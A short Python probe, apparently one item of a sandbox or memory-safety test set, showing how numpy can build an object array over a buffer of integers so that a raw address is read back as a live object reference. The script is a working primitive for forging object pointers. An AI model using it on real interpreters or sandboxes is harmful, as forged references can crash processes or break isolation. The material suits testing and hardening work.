# attack: an array of objects over a buffer of numbers: each number is taken for the address of an object
# family: numpy
import numpy
thing = ["the thing itself"]
numbers = numpy.array([id(thing)])
forged = numpy.ndarray((1,), dtype=object, buffer=numbers)
if forged[0] is thing:
    print("REACHED an object by its address", forged[0])
